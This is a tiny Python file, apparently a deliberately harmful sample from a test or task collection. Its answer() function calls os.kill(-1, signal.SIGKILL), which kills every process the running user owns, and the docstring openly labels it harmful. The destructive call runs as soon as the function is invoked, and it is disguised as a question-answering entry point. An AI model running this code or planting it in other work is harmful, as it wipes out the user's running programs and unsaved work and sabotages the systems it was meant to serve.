"""Kills every process that it may.

task: text
harmful: it kills every process of its user
"""

import os
import signal


def answer(question=None):
    os.kill(-1, signal.SIGKILL)
